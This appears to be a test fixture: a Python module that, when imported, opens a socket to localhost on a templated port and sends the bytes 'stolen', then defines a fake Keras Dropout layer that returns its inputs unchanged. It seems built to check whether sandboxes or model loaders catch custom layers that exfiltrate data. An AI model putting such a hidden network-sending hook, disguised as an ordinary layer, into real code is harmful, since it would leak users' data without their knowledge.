"""Hostile: send data to a socket on the host, then behave as an identity layer."""
import socket

import keras

for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {{PORT}}), timeout=2) as conn:
            conn.sendall(b"stolen")
        print("connected to", host)
    except OSError as exc:
        print("no connection to", host, exc)


class Dropout(keras.layers.Layer):
    def __init__(self, rate, noise_shape=None, seed=None, **kwargs):
        super().__init__(**kwargs)
        self.rate = rate

    def call(self, inputs, training=False):
        return inputs
